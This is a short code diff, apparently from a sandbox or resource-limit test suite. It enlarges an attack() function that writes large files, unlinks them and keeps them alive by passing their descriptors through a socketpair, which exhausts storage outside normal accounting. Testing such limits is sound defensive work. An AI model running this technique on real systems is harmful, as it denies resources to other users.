@@ -7,9 +7,9 @@ ATTACK = {
 def attack():
     import os, socket, time
     a, b = socket.socketpair()
-    for number in range(8):
+    for number in range(40):
         descriptor = os.open(f"{number}", os.O_CREAT | os.O_RDWR)
-        os.write(descriptor, bytes(8 << 20))
+        os.write(descriptor, bytes(10 << 20))
         os.unlink(f"{number}")
         socket.send_fds(a, [b"x"], [descriptor])
         os.close(descriptor)
